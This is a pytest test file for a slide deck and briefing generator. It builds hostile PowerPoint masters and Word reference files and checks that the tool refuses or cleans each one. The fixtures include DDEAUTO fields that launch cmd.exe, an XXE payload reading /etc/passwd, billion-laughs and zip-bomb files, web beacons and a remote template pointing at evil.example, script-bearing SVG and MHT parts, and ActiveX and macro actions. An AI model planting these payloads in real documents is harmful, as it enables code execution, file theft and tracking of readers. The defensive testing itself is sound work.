"""Hostile masters and reference documents (issue 13, item 1): each is either refused on one
line naming the file (exit 2), or built into a clean deck or briefing, in which nothing of the
template can run, call out or fetch (:func:`hostile.assert_clean`), what is harmless in it
kept. Every hostile file is made here from python-pptx's and python-docx's plain ones."""

from __future__ import annotations

import os
import re
import shutil
import struct
import time
import zipfile
from pathlib import Path

import pytest
from hostile import (
    HEADER_TEXT,
    LINK_TEXT,
    OLE,
    RT,
    add_rel,
    add_type,
    assert_clean,
    base_docx,
    base_pptx,
    content_type,
    findings,
    insert,
    prepend,
    repack,
    sub,
    truncated,
    zip_bomb,
    zip_part,
    zip_text,
)
from test_load import GOOD as TINY
from typer.testing import CliRunner

from deckgen.cli import app

ROOT = Path(__file__).resolve().parents[1]
CT = "[Content_Types].xml"
PRES_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
DOC_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MASTER, MRELS = "ppt/slideMasters/slideMaster1.xml", "ppt/slideMasters/_rels/slideMaster1.xml.rels"
LAYOUT, LRELS = "ppt/slideLayouts/slideLayout2.xml", "ppt/slideLayouts/_rels/slideLayout2.xml.rels"
PRELS = "ppt/_rels/presentation.xml.rels"
PRES, THEME = "ppt/presentation.xml", "ppt/theme/theme1.xml"
SLIDE_SIZE = r"<p:sldSz [^>]*/>"
DOCUMENT, PAGE = "word/document.xml", r"<w:pgSz [^>]*/>"
HDR, HRELS = "word/header1.xml", "word/_rels/header1.xml.rels"
SETTINGS, SRELS = "word/settings.xml", "word/_rels/settings.xml.rels"
DRELS = "word/_rels/document.xml.rels"
END_TREE = "</p:spTree>"
END_HEADER_P = "</w:p>"
BEFORE_TAB = "<w:defaultTabStop"
MASTER_TEXT = "ACME MASTER TEXT"
EVIL = "http://evil.example/beacon.png"
V_O = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'


def shape(link: str = "", text: str = MASTER_TEXT) -> str:
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="90" name="Evil">{link}</p:cNvPr><p:cNvSpPr/><p:nvPr/>'
        '</p:nvSpPr><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9144" cy="9144"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:p>'
        f"<a:r><a:rPr>{link}</a:rPr><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"
    )


def picture(blip: str) -> str:
    return (
        '<p:pic><p:nvPicPr><p:cNvPr id="91" name="Beacon"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
        f"<p:blipFill><a:blip {blip}/><a:stretch><a:fillRect/></a:stretch></p:blipFill>"
        '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9144" cy="9144"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>'
    )


def ole_frame(rid: str) -> str:
    return (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="92" name="Ole"/><p:cNvGraphicFramePr/>'
        '<p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="9144" cy="9144"/>'
        '</p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml'
        f'/2006/ole"><p:oleObj name="Sheet" r:id="{rid}" progId="Excel.Sheet.12">'
        '<p:link updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
    )


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'onload="alert(1)" width="10" height="10"><script>alert(1)</script>'
    f'<style>@import url("{EVIL}");</style><image xlink:href="{EVIL}" width="10" height="10"/>'
    f'<rect width="10" height="10" style="fill:url({EVIL}#p)"/></svg>'
)
ACTIVEX = (
    '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
    f'xmlns:r="{RT[:-1]}" ax:classid="{{8BD21D40-EC42-11CE-9E0D-00AA006002F3}}" '
    'ax:persistence="persistStreamInit" r:id="rId1"/>'
)
BIN_TYPE = (
    '<Default Extension="bin" '
    'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
)
ACTIVEX_PARTS = {
    "ppt/activeX/activeX1.xml": ACTIVEX,
    "ppt/activeX/_rels/activeX1.xml.rels": add_rel(
        "rId1",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary",
        "activeX1.bin",
    ),
    "ppt/activeX/activeX1.bin": OLE,
}

# ---- masters ---------------------------------------------------------------------------------

CLEAN_MASTERS = {
    "web beacon picture in a layout": {
        LAYOUT: insert(END_TREE, picture('r:link="rId90"')),
        LRELS: add_rel("rId90", RT + "image", EVIL, external=True),
    },
    "external hyperlink on the master": {
        MASTER: insert(END_TREE, shape('<a:hlinkClick r:id="rId90"/>')),
        MRELS: add_rel("rId90", RT + "hyperlink", "http://evil.example/", external=True),
    },
    "OLE link to a file:// spreadsheet in a layout": {
        LAYOUT: insert(END_TREE, ole_frame("rId90")),
        LRELS: add_rel("rId90", RT + "oleObject", "file:///C:/secret.xlsx", external=True),
    },
    "embedded OLE object on the master": {
        MASTER: insert(END_TREE, ole_frame("rId90")),
        MRELS: add_rel("rId90", RT + "oleObject", "../embeddings/oleObject1.bin"),
        "ppt/embeddings/oleObject1.bin": OLE,
        CT: insert("</Types>", BIN_TYPE),
    },
    "ActiveX control on the master": {
        MASTER: insert(
            "</p:cSld>",
            '<p:controls><p:control name="Evil" r:id="rId90" spid="_x0000_s1025"/></p:controls>',
        ),
        MRELS: add_rel("rId90", RT + "control", "../activeX/activeX1.xml"),
        **ACTIVEX_PARTS,
        CT: lambda b: add_type("ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")(
            insert("</Types>", BIN_TYPE)(b)
        ),
    },
    "macro action on a master shape": {
        MASTER: insert(
            END_TREE, shape('<a:hlinkClick r:id="" action="ppaction://macro?name=Evil"/>')
        ),
    },
    "program action on a master shape": {
        MASTER: insert(END_TREE, shape('<a:hlinkClick r:id="rId90" action="ppaction://program"/>')),
        MRELS: add_rel("rId90", RT + "hyperlink", "file:///C:/Windows/System32/calc.exe", True),
    },
    "custom XML with a script": {
        PRELS: add_rel("rId90", RT + "customXml", "../customXml/item1.xml"),
        "customXml/item1.xml": '<root xmlns="urn:evil"><script>alert(1)</script></root>',
    },
    "ribbon customisation calling a macro": {
        "_rels/.rels": add_rel(
            "rId90",
            "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
            "customUI/customUI14.xml",
        ),
        "customUI/customUI14.xml": (
            '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Evil"/>'
        ),
    },
    "SVG with a script and an outside picture in a layout": {
        LAYOUT: insert(END_TREE, picture('r:embed="rId90"')),
        LRELS: add_rel("rId90", RT + "image", "../media/evil.svg"),
        "ppt/media/evil.svg": SVG,
        CT: insert("</Types>", '<Default Extension="svg" ContentType="image/svg+xml"/>'),
    },
    "a relationship to a part that is not there": {
        LAYOUT: insert(END_TREE, picture('r:embed="rId90"')),
        LRELS: add_rel("rId90", RT + "image", "../media/missing.png"),
    },
    "a password to modify": {
        PRES: insert(
            "</p:presentation>",
            '<p:modifyVerifier cryptProviderType="rsaAES" '
            'cryptAlgorithmClass="hash" cryptAlgorithmType="typeAny" cryptAlgorithmSid="14"'
            ' spinCount="100000" saltData="AAAA" hashData="AAAA"/>',
        )
    },
    "a .potx template": {CT: content_type("presentation.main", "template.main")},
    "a .ppsx slide show": {CT: content_type("presentation.main", "slideshow.main")},
    "no slide size (PowerPoint's 16:9 taken)": {PRES: sub(SLIDE_SIZE, "")},
    "a theme colour that is no colour": {
        THEME: sub(r'<a:srgbClr val="\w{6}"', '<a:srgbClr val="ZZZZZZ"')
    },
}

HARMLESS = {
    "a .potx template",
    "a .ppsx slide show",
    "a relationship to a part that is not there",
    "no slide size (PowerPoint's 16:9 taken)",
    "a theme colour that is no colour",
}
"""Masters that are odd, not hostile: the scanner finds nothing in them."""

MACRO_PPTX = {
    "ppt/vbaProject.bin": OLE,
    PRELS: add_rel(
        "rId90",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    ),
    CT: insert(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    ),
}
BILLION_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

REFUSED_MASTERS = {
    "macro project (vbaProject.bin)": (MACRO_PPTX, "holds macros"),
    "a .pptm renamed .pptx": (
        {
            CT: content_type(
                PRES_MAIN, "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
            )
        },
        "holds macros",
    ),
    "XXE in a layout": ({LAYOUT: prepend(XXE)}, "declares a DTD"),
    "billion laughs in the presentation": (
        {"ppt/presentation.xml": prepend(BILLION_LAUGHS)},
        "DTD",
    ),
    "a layout that is not XML": ({LAYOUT: b"<p:sldLayout"}, "not well-formed XML"),
    "no content types": ({CT: None}, "no [Content_Types].xml"),
    "no main part": ({"_rels/.rels": None}, "no main part"),
    "a slide size of zero": ({PRES: sub(SLIDE_SIZE, '<p:sldSz cx="0" cy="0"/>')}, "slide size"),
    "a slide size that is no number": (
        {PRES: sub(SLIDE_SIZE, '<p:sldSz cx="wide" cy="6858000"/>')},
        "python-pptx can read",
    ),
    "a slide master without a theme": ({THEME: None}, "without a theme"),
    "a placeholder of no known type": (
        {MASTER: sub(r'<p:ph type="body"', '<p:ph type="boom"')},
        "boom",
    ),
    "a date placeholder of no known type on the content layout": (
        {"ppt/slideLayouts/slideLayout6.xml": sub(r'<p:ph type="dt"', '<p:ph type="boom"')},
        "cannot build on it (ValueError",
    ),
}


@pytest.fixture(scope="module")
def bases(tmp_path_factory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("bases")
    return {"pptx": base_pptx(folder), "docx": base_docx(folder)}


@pytest.fixture
def content(tmp_path) -> Path:
    path = tmp_path / "c.yaml"
    path.write_text(TINY, encoding="utf-8")
    return path


def run(*args):
    return CliRunner().invoke(app, [str(a) for a in args])


def refused(result, file: Path) -> str:
    """The one error line of a refused run, naming ``file``."""
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith(f"error: {file}: "), lines[0]
    assert len(lines[0]) < 300
    return lines[0]


def test_the_plain_bases_are_clean_and_the_scanner_sees_hostile_parts(bases, tmp_path):
    """The scanner finds each kind of fault in a made file: it is not a test that cannot fail."""
    assert findings(bases["pptx"]) == []
    edits = {**CLEAN_MASTERS["web beacon picture in a layout"], **MACRO_PPTX}
    made = repack(bases["pptx"], tmp_path / "m.pptx", edits)
    found = "\n".join(findings(made))
    assert "external relationship" in found and "vbaProject.bin" in found
    docx_made = repack(
        bases["docx"], tmp_path / "m.docx", REFERENCES["DDEAUTO field in the header"]
    )
    assert "DDEAUTO" in "\n".join(findings(docx_made))


@pytest.mark.parametrize("case", sorted(CLEAN_MASTERS))
def test_a_hostile_master_gives_a_clean_deck(case, bases, content, tmp_path):
    suffix = ".potx" if "potx" in case else ".pptx"
    master = repack(bases["pptx"], tmp_path / f"master{suffix}", CLEAN_MASTERS[case])
    assert findings(master) or case in HARMLESS  # the fixture holds what the test says
    out = tmp_path / "deck.pptx"
    result = run("pptx", content, "-t", master, "-o", out)
    assert result.exit_code == 0, result.output
    assert_clean(out)
    with zipfile.ZipFile(out) as z:
        types = z.read(CT).decode()
        assert PRES_MAIN in types and "template.main" not in types and "slideshow" not in types
    if "master shape" in case or "hyperlink" in case:
        assert MASTER_TEXT in zip_text(out)  # the shape stays, its link goes
    if "no colour" in case:
        assert "ZZZZZZ" not in zip_text(out).replace(zip_part(out, THEME), "")


@pytest.mark.parametrize("case", sorted(REFUSED_MASTERS))
def test_a_refused_master_is_one_line_naming_it(case, bases, content, tmp_path):
    edits, expected = REFUSED_MASTERS[case]
    master = repack(bases["pptx"], tmp_path / "master.pptx", edits)
    out = tmp_path / "deck.pptx"
    line = refused(run("pptx", content, "-t", master, "-o", out), master)
    assert expected in line
    assert not out.exists()


def _master_file(kind: str, bases, folder: Path) -> Path:
    path = folder / "master.pptx"
    if kind == "encrypted (OLE compound file)":
        path.write_bytes(OLE + b"EncryptedPackage")
    elif kind == "truncated":
        truncated(bases["pptx"], path)
    elif kind == "garbage after a zip signature":
        path.write_bytes(b"PK\x03\x04" + os.urandom(2000))
    elif kind == "empty":
        path.write_bytes(b"")
    elif kind == "a Word document renamed":
        shutil.copy(bases["docx"], path)
    elif kind == "a symbolic link loop":
        os.symlink(folder / "other.pptx", path)
        os.symlink(path, folder / "other.pptx")
    elif kind == "a FIFO":
        os.mkfifo(path)
    elif kind == "a folder":
        path.mkdir()
    return path


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("encrypted (OLE compound file)", "encrypted"),
        ("truncated", "damaged or truncated"),
        ("garbage after a zip signature", "damaged or truncated"),
        ("empty", "not a zip"),
        ("a Word document renamed", "it is a Word file"),
        ("a symbolic link loop", ""),
        ("a FIFO", ""),
        ("a folder", ""),
    ],
)
def test_a_master_that_is_no_presentation_is_refused(kind, expected, bases, content, tmp_path):
    master = _master_file(kind, bases, tmp_path)
    out = tmp_path / "deck.pptx"
    start = time.monotonic()
    line = refused(run("pptx", content, "-t", master, "-o", out), master)
    assert expected in line and time.monotonic() - start < 10
    assert not out.exists()


def _lying_sizes(src: Path, dst: Path, size: int) -> Path:
    """``src`` whose central directory says its first entry inflates to ``size`` bytes."""
    data = bytearray(src.read_bytes())
    at = data.index(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", size)
    dst.write_bytes(bytes(data))
    return dst


@pytest.mark.parametrize("suffix", [".pptx", ".docx"])
def test_zip_bombs_are_refused_in_seconds_before_inflating(suffix, bases, content, tmp_path):
    base = bases[suffix[1:]]
    media = "ppt/media/bomb" if suffix == ".pptx" else "word/media/bomb"
    cases = {
        "zip bomb": (zip_bomb(base, tmp_path / f"bomb{suffix}", media, 40), "zip bomb"),
        "declared": (_lying_sizes(base, tmp_path / f"lying{suffix}", 2**31), "inflates to over"),
        "entries": (
            repack(base, tmp_path / f"many{suffix}", {f"x/{i}.xml": b"" for i in range(4001)}),
            "too many parts",
        ),
    }
    for path, expected in cases.values():
        start = time.monotonic()
        if suffix == ".pptx":
            target, file = path, path
        else:
            target = _reference_folder(tmp_path / path.stem, path)
            file = target / "reference.docx"
        line = refused(run(suffix[1:], content, "-t", target, "-o", tmp_path / f"o{suffix}"), file)
        assert expected in line and time.monotonic() - start < 10
    assert not (tmp_path / f"o{suffix}").exists()


# ---- reference documents ---------------------------------------------------------------------


def field(instruction: str, result: str = "RESULT") -> str:
    """A complex field's runs."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def in_header(xml: str) -> dict:
    return {HDR: insert(END_HEADER_P, xml)}


def linked_picture(rid: str) -> str:
    return (
        f'<w:r><w:pict {V_O}><v:shape style="width:1pt;height:1pt">'
        f'<v:imagedata r:id="{rid}"/></v:shape></w:pict></w:r>'
    )


DRAWING = (
    '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
    'wordprocessingDrawing"><wp:extent cx="9144" cy="9144"/><wp:docPr id="90" name="Beacon"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData'
    ' uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http:'
    '//schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="90" '
    'name="Beacon"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="{rid}"/>'
    '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" '
    'y="0"/><a:ext cx="9144" cy="9144"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/>'
    "</a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
    "</w:r>"
)
NESTED = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    + field("QUOTE 68 68 69 65 85 84 79", "DDEAUTO")
    + '<w:r><w:instrText xml:space="preserve"> "cmd.exe" "/k calc" </w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"

REFERENCES = {
    "DDEAUTO field in the header": in_header(
        field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" ')
    ),
    "DDE simple field in the header": in_header(
        '<w:fldSimple w:instr=\' DDE "cmd" "/c calc" \'><w:r><w:t>X</w:t></w:r></w:fldSimple>'
    ),
    "INCLUDEPICTURE of an outside picture": {
        **in_header(field(f'INCLUDEPICTURE "{EVIL}" \\d', "") + linked_picture("rId90")),
        HRELS: add_rel("rId90", RT + "image", EVIL, external=True),
    },
    "INCLUDETEXT field": in_header(field(r'INCLUDETEXT "\\\\evil\\share\\x.docx"')),
    "LINK field to a spreadsheet": in_header(
        field(r'LINK Excel.Sheet.12 "C:\\secret.xlsx" "R1C1" \a')
    ),
    "field whose instruction another field makes": in_header(NESTED),
    "a field never ended": in_header(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        "<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>"
    ),
    "attachedTemplate on a server": {
        SETTINGS: insert(BEFORE_TAB, '<w:attachedTemplate r:id="rId90"/>'),
        SRELS: add_rel("rId90", RT + "attachedTemplate", "https://evil.example/t.dotm", True),
    },
    "mail merge from an outside source": {
        SETTINGS: insert(
            BEFORE_TAB,
            '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
            '<w:dataType w:val="native"/><w:query w:val="SELECT * FROM x"/>'
            '<w:dataSource r:id="rId91"/></w:mailMerge>',
        ),
        SRELS: add_rel("rId91", RT + "mailMergeSource", "file:///\\\\evil\\share\\x.xlsx", True),
    },
    "fields updated on opening": {SETTINGS: insert(BEFORE_TAB, '<w:updateFields w:val="true"/>')},
    "a password that locks the briefing": {
        SETTINGS: insert(BEFORE_TAB, '<w:documentProtection w:edit="readOnly" w:enforcement="1"/>')
    },
    "external hyperlink in the header": {
        **in_header(f'<w:hyperlink r:id="rId90"><w:r><w:t>{LINK_TEXT}</w:t></w:r></w:hyperlink>'),
        HRELS: add_rel("rId90", RT + "hyperlink", "http://evil.example/", external=True),
    },
    "OLE link in the header": {
        **in_header(
            f'<w:r><w:object {V_O}><v:shape id="o1" style="width:1pt;height:1pt"/>'
            '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="o1" r:id="rId90"'
            ' UpdateMode="Always"/></w:object></w:r>'
        ),
        HRELS: add_rel("rId90", RT + "oleObject", "file:///C:/secret.xlsx", external=True),
    },
    "ActiveX control in the header": {
        **in_header('<w:r><w:object><w:control r:id="rId90" w:name="Evil"/></w:object></w:r>'),
        HRELS: add_rel("rId90", RT + "control", "activeX/activeX1.xml"),
        **{k.replace("ppt/", "word/"): v for k, v in ACTIVEX_PARTS.items()},
        CT: lambda b: add_type(
            "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"
        )(insert("</Types>", BIN_TYPE)(b)),
    },
    "alternative-format chunk in the header": {
        **in_header('<w:altChunk r:id="rId90"/>'),
        HRELS: add_rel("rId90", RT + "aFChunk", "evil.mht"),
        "word/evil.mht": "MIME-Version: 1.0\r\n\r\n<script>alert(1)</script>",
    },
    "custom XML with a script": {
        DRELS: add_rel("rId90", RT + "customXml", "../customXml/item9.xml"),
        "customXml/item9.xml": '<root xmlns="urn:evil"><script>alert(1)</script></root>',
    },
    "an add-in task pane": {
        "_rels/.rels": add_rel(
            "rId90",
            "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
            "word/webextensions/taskpanes.xml",
        ),
        "word/webextensions/taskpanes.xml": '<wetp:taskpanes xmlns:wetp="http://schemas.microsoft'
        '.com/office/webextensions/taskpanes/2010/11"/>',
    },
    "a .dotx template": {CT: content_type("document.main", "template.main")},
    "VML picture fetched from a URL (no relationship)": in_header(
        f'<w:r><w:pict {V_O}><v:shape style="width:1pt;height:1pt">'
        f'<v:imagedata src="{EVIL}" o:href="{EVIL}"/></v:shape></w:pict></w:r>'
    ),
    "linked DrawingML picture (web beacon) in the header": {
        **in_header(DRAWING.format(rid="rId90")),
        HRELS: add_rel("rId90", RT + "image", EVIL, external=True),
    },
    "HYPERLINK field to a web page": in_header(field('HYPERLINK "http://evil.example/"')),
    "a body without section properties": {DOCUMENT: sub(r"<w:sectPr.*?</w:sectPr>", "")},
}

REFUSED_REFERENCES = {
    "a .docm renamed .docx": (
        {CT: content_type(DOC_MAIN, DOCM), "word/vbaProject.bin": OLE},
        "holds macros",
    ),
    "XXE in the styles": ({"word/styles.xml": prepend(XXE)}, "declares a DTD"),
    "billion laughs in the document": ({"word/document.xml": prepend(BILLION_LAUGHS)}, "DTD"),
    "a header that is not XML": ({HDR: b"<w:hdr><w:p>"}, "not well-formed XML"),
    "a page 0 cm wide": ({DOCUMENT: sub(PAGE, '<w:pgSz w:w="0" w:h="16838"/>')}, "page width"),
    "a page size that is no number": (
        {DOCUMENT: sub(PAGE, '<w:pgSz w:w="A4" w:h="16838"/>')},
        "python-docx can read",
    ),
    "margins wider than the page": (
        {
            DOCUMENT: sub(
                r"<w:pgMar [^>]*/>",
                '<w:pgMar w:top="1440" w:right="9000" '
                'w:bottom="1440" w:left="9000" w:header="0" w:footer="0" w:gutter="0"/>',
            )
        },
        "no width for text",
    ),
}


def _reference_folder(folder: Path, reference: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copy(ROOT / "templates" / "gov-red" / "theme.yaml", folder / "theme.yaml")
    shutil.copy(reference, folder / "reference.docx")
    return folder


@pytest.mark.parametrize("case", sorted(REFERENCES))
def test_a_hostile_reference_gives_a_clean_briefing(case, bases, content, tmp_path):
    reference = repack(bases["docx"], tmp_path / "ref.docx", REFERENCES[case])
    assert findings(reference) or "template" in case
    folder = _reference_folder(tmp_path / "t", reference)
    out = tmp_path / "briefing.docx"
    result = run("docx", content, "-t", folder, "-o", out)
    assert result.exit_code == 0, result.output
    assert_clean(out)
    text = zip_text(out)
    assert HEADER_TEXT in text  # the header stays, what was hostile in it goes
    if "hyperlink" in case:
        assert LINK_TEXT in text
    with zipfile.ZipFile(out) as z:
        assert DOC_MAIN in z.read(CT).decode()


@pytest.mark.parametrize("case", sorted(REFUSED_REFERENCES))
def test_a_refused_reference_is_one_line_naming_it(case, bases, content, tmp_path):
    edits, expected = REFUSED_REFERENCES[case]
    folder = _reference_folder(tmp_path / "t", repack(bases["docx"], tmp_path / "r.docx", edits))
    out = tmp_path / "briefing.docx"
    line = refused(run("docx", content, "-t", folder, "-o", out), folder / "reference.docx")
    assert expected in line
    assert not out.exists()


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("encrypted (OLE compound file)", "encrypted"),
        ("truncated", "damaged or truncated"),
        ("garbage after a zip signature", "damaged or truncated"),
        ("a PowerPoint file renamed", "it is a PowerPoint file"),
    ],
)
def test_a_reference_that_is_no_document_is_refused(kind, expected, bases, content, tmp_path):
    source = tmp_path / "r.docx"
    if kind.startswith("a PowerPoint"):
        shutil.copy(bases["pptx"], source)
    else:
        shutil.copy(_master_file(kind, {"pptx": bases["docx"]}, tmp_path), source)
    folder = _reference_folder(tmp_path / "t", source)
    for command in ("docx", "build"):
        out = tmp_path / f"o-{command}"
        args = ("-o", out / "b.docx") if command == "docx" else ("-o", out)
        line = refused(run(command, content, "-t", folder, *args), folder / "reference.docx")
        assert expected in line
        assert not out.exists() or list(out.iterdir()) == []


def test_pandocs_reference_brings_no_external_link(content, tmp_path):
    if shutil.which("pandoc") is None:
        pytest.skip("pandoc is not installed")
    import subprocess

    reference = tmp_path / "pandoc.docx"
    subprocess.run(
        ["pandoc", "-o", str(reference), "--print-default-data-file", "reference.docx"], check=True
    )
    assert any("external" in f for f in findings(reference))
    out = tmp_path / "b.docx"
    result = run("docx", content, "-t", _reference_folder(tmp_path / "t", reference), "-o", out)
    assert result.exit_code == 0, result.output
    assert_clean(out)


def test_template_new_copies_a_hostile_master_cleaned(bases, tmp_path):
    case = "OLE link to a file:// spreadsheet in a layout"
    master = repack(bases["pptx"], tmp_path / "master.pptx", CLEAN_MASTERS[case])
    assert findings(master)
    result = run("template", "new", "acme", "--master", master, "--dir", tmp_path / "t")
    assert result.exit_code == 0, result.output
    assert_clean(tmp_path / "t" / "acme" / "master.pptx")
    refused(run("template", "new", "evil", "--master", repack(
        bases["pptx"], tmp_path / "macro.pptx", MACRO_PPTX), "--dir", tmp_path / "t"),
        tmp_path / "macro.pptx")  # fmt: skip
    assert sorted(p.name for p in (tmp_path / "t").iterdir()) == ["acme"]


def test_a_reference_dotx_is_used_and_a_reference_that_is_no_file_refused(bases, content, tmp_path):
    dotx = repack(bases["docx"], tmp_path / "r.dotx", REFERENCES["a .dotx template"])
    folder = _reference_folder(tmp_path / "t", dotx)
    (folder / "reference.docx").rename(folder / "reference.dotx")
    out = tmp_path / "b.docx"
    result = run("docx", content, "-t", folder, "-o", out)
    assert result.exit_code == 0, result.output
    assert HEADER_TEXT in zip_text(out)
    (folder / "reference.dotx").unlink()
    os.mkfifo(folder / "reference.docx")
    line = refused(run("docx", content, "-t", folder, "-o", out), folder / "reference.docx")
    assert "FIFO" in line


def test_template_new_takes_a_potx_master_as_a_pptx(bases, content, tmp_path):
    potx = repack(bases["pptx"], tmp_path / "corp.potx", CLEAN_MASTERS["a .potx template"])
    result = run("template", "new", "corp", "--master", potx, "--dir", tmp_path / "t")
    assert result.exit_code == 0, result.output
    master = tmp_path / "t" / "corp" / "master.pptx"
    with zipfile.ZipFile(master) as z:
        assert PRES_MAIN in z.read(CT).decode()
    out = tmp_path / "deck.pptx"
    assert run("pptx", content, "-t", tmp_path / "t" / "corp", "-o", out).exit_code == 0


def test_a_master_typing_bin_parts_as_ole_objects_passes_no_such_type_on(bases, content, tmp_path):
    """A master whose [Content_Types].xml types every .bin as an OLE object: the deck's own
    .bin part (printer settings) is not typed so; no part of the deck is an OLE object."""
    ole = "application/vnd.openxmlformats-officedocument.oleObject"

    def bin_as_ole(data: bytes) -> bytes:
        data = re.sub(rb'<Default Extension="bin" ContentType="[^"]*"/>', b"", data)
        return insert("</Types>", f'<Default Extension="bin" ContentType="{ole}"/>')(data)

    edits = {CT: bin_as_ole}
    master = repack(bases["pptx"], tmp_path / "master.pptx", edits)
    assert "oleObject" in zip_part(master, CT)  # the fixture holds what the test says
    out = tmp_path / "deck.pptx"
    result = run("pptx", content, "-t", master, "-o", out)
    assert result.exit_code == 0, result.output
    assert "oleObject" not in zip_part(out, CT)
    assert_clean(out)


def test_check_refuses_a_zip_bomb_before_libreoffice_reads_it(bases, tmp_path):
    bomb = zip_bomb(bases["docx"], tmp_path / "x.docx", "word/media/image", 300)
    started = time.monotonic()
    line = refused(run("check", bomb), bomb)
    assert "inflates" in line and time.monotonic() - started < 20
